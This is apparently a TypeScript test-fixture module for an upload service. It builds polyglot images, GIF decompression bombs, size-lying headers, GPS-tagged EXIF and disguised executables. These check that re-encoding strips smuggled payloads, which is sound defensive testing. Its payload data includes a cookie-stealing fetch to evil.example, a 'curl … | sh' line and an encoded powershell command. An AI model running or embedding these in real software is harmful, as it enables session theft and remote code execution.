import { crc32 } from "node:zlib";
import sharp from "sharp";

/**
 * Hostile and ordinary upload fixtures for the storage tests, all made here with sharp and a few byte
 * patches, so the repository holds no binary files (and no real malware).
 */

export const solid = (width: number, height: number, background = "#7c3aed") =>
  sharp({ create: { width, height, channels: 3, background } });

export const png = (width = 16, height = 16) => solid(width, height).png().toBuffer();
export const jpeg = (width = 16, height = 16) => solid(width, height).jpeg().toBuffer();
export const gif = (width = 16, height = 16) => solid(width, height).gif().toBuffer();

/** The payloads a polyglot smuggles; none of these byte strings may survive re-encoding. */
export const payloads = {
  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  js: Buffer.from(";fetch('https://evil.example/steal?c='+document.cookie);//"),
  /** A minimal ZIP (a JAR is one): a local file header and an end-of-central-directory record. */
  zip: Buffer.concat([
    Buffer.from("PK\x03\x04", "latin1"),
    Buffer.alloc(26),
    Buffer.from("META-INF/MANIFEST.MFMain-Class: Evil\n"),
    Buffer.from("PK\x05\x06", "latin1"),
    Buffer.alloc(18),
  ]),
};

/** Byte strings that identify a payload in stored output. */
const payloadMarkers = ["<script", "alert(", "document.cookie", "evil.example", "PK\x03\x04", "META-INF"];

export function containsAnyMarker(bytes: Buffer): string | undefined {
  return payloadMarkers.find((marker) => bytes.includes(Buffer.from(marker, "latin1")));
}

/** A PNG chunk with its length and CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A valid PNG carrying `payload` in a tEXt chunk just before IEND (inside the image, not after it). */
export async function pngWithTextChunk(payload: Buffer): Promise<Buffer> {
  const image = await png();
  const iend = image.length - 12;
  return Buffer.concat([
    image.subarray(0, iend),
    pngChunk("tEXt", Buffer.concat([Buffer.from("Comment\0"), payload])),
    image.subarray(iend),
  ]);
}

/** A valid JPEG carrying `payload` in a COM (comment) segment right after SOI. */
export async function jpegWithComment(payload: Buffer): Promise<Buffer> {
  const image = await jpeg();
  const length = Buffer.alloc(2);
  length.writeUInt16BE(payload.length + 2);
  return Buffer.concat([image.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, payload, image.subarray(2)]);
}

/** A valid 1×1 PNG whose IHDR then claims another size (with a correct CRC, so only the size is wrong). */
export async function pngDeclaring(width: number, height: number): Promise<Buffer> {
  const image = Buffer.from(await png(1, 1));
  image.writeUInt32BE(width, 16);
  image.writeUInt32BE(height, 20);
  image.writeUInt32BE(crc32(image.subarray(12, 29)), 29);
  return image;
}

/** A small JPEG whose SOF0 header claims another size. */
export async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const image = Buffer.from(await jpeg(8, 8));
  const sof = image.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error("no SOF0 marker in the fixture");
  image.writeUInt16BE(height, sof + 5);
  image.writeUInt16BE(width, sof + 7);
  return image;
}

type GifLayout = { headerEnd: number; frames: { start: number; end: number }[] };

/**
 * Where a GIF's frames are: each frame runs from its graphic control extension (when present) to the end
 * of its image data. Enough of the format to cut and repeat frames.
 */
export function gifLayout(input: Buffer): GifLayout {
  const flags = input[10] ?? 0;
  let offset = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 0x07) + 1) : 0);
  const skipSubBlocks = () => {
    while ((input[offset] ?? 0) !== 0) offset += (input[offset] ?? 0) + 1;
    offset += 1;
  };
  let headerEnd = -1;
  let frameStart = -1;
  const frames: GifLayout["frames"] = [];
  while (offset < input.length && input[offset] !== 0x3b) {
    const block = input[offset];
    if (block === 0x21) {
      const label = input[offset + 1];
      if (label === 0xf9 && frameStart < 0) {
        if (headerEnd < 0) headerEnd = offset;
        frameStart = offset;
      }
      offset += 2;
      skipSubBlocks();
    } else if (block === 0x2c) {
      if (headerEnd < 0) headerEnd = offset;
      if (frameStart < 0) frameStart = offset;
      const descriptorFlags = input[offset + 9] ?? 0;
      offset += 10 + (descriptorFlags & 0x80 ? 3 * 2 ** ((descriptorFlags & 0x07) + 1) : 0);
      offset += 1; // LZW minimum code size
      skipSubBlocks();
      frames.push({ start: frameStart, end: offset });
      frameStart = -1;
    } else {
      throw new Error(`Unexpected GIF block 0x${(block ?? 0).toString(16)} at ${offset}`);
    }
  }
  return { headerEnd, frames };
}

/**
 * An animated GIF "bomb": a tiny file with `frames` frames of `size`×`size` pixels, which would be
 * frames × size² × 4 bytes if every frame were decoded. Made by repeating one real frame.
 */
export async function animatedGifBomb(frames: number, size = 64): Promise<Buffer> {
  const page = (color: string) => solid(size, size, color).raw().toBuffer();
  const raw = Buffer.concat([await page("#ff0000"), await page("#00ff00")]);
  const twoFrames = await sharp(raw, {
    raw: { width: size, height: size * 2, channels: 3, pageHeight: size },
  })
    .gif({ loop: 0, delay: [10, 10] })
    .toBuffer();
  const layout = gifLayout(twoFrames);
  const [first, second] = layout.frames;
  if (!first || !second) throw new Error("the two-frame fixture has fewer than two frames");
  const frame = twoFrames.subarray(second.start, second.end);
  return Buffer.concat([
    twoFrames.subarray(0, first.end),
    ...Array.from({ length: frames - 1 }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

/** A small GIF whose logical screen and first frame claim another size. */
export async function gifDeclaring(width: number, height: number): Promise<Buffer> {
  const image = Buffer.from(await gif(8, 8));
  image.writeUInt16LE(width, 6);
  image.writeUInt16LE(height, 8);
  const descriptor = image.indexOf(0x2c, gifLayout(image).headerEnd);
  image.writeUInt16LE(width, descriptor + 5);
  image.writeUInt16LE(height, descriptor + 7);
  return image;
}

/** A JPEG as a phone writes it: EXIF with camera make, GPS position and an orientation. */
export async function phoneJpeg(): Promise<Buffer> {
  return solid(40, 20, "#2255aa")
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: "PhoneCo", Model: "Pocket 9", Copyright: "Jane Attendee" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "48/1 51/1 2988/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "2/1 17/1 4000/100",
      },
    })
    .toBuffer();
}

/** Executables and scripts as someone would rename them to `photo.png`. */
export const executables: Record<string, Buffer> = {
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
  pe: (() => {
    const exe = Buffer.alloc(256);
    exe.write("MZ", 0, "latin1");
    exe.writeUInt32LE(0x80, 0x3c);
    exe.write("PE\0\0", 0x80, "latin1");
    return exe;
  })(),
  machO: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120)]),
  shell: Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n"),
  batch: Buffer.from("@echo off\r\npowershell -enc ZQBjAGgAbwA=\r\n"),
};

/** A PNG signature on top of an ELF: the signature alone must not make it an image. */
export const elfBehindPngSignature = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(120),
]);

export type WebpLayout = { riffSize: number; fileSize: number; chunks: string[] };

/** The chunks of a WebP file, and whether its RIFF size accounts for every byte (no trailing data). */
export function webpLayout(input: Buffer): WebpLayout {
  if (input.toString("latin1", 0, 4) !== "RIFF" || input.toString("latin1", 8, 12) !== "WEBP") {
    throw new Error("not a WebP file");
  }
  const riffSize = input.readUInt32LE(4);
  const chunks: string[] = [];
  let offset = 12;
  while (offset + 8 <= input.length) {
    chunks.push(input.toString("latin1", offset, offset + 4));
    const size = input.readUInt32LE(offset + 4);
    offset += 8 + size + (size % 2);
  }
  return { riffSize, fileSize: input.length, chunks };
}

/** Only pixel data: no EXIF, XMP, ICC profile or unknown chunk, and nothing after the RIFF container. */
export function isCleanWebp(input: Buffer): boolean {
  const { riffSize, fileSize, chunks } = webpLayout(input);
  const pixelChunks = new Set(["VP8 ", "VP8L", "VP8X", "ALPH"]);
  return riffSize + 8 === fileSize && chunks.length > 0 && chunks.every((c) => pixelChunks.has(c));
}
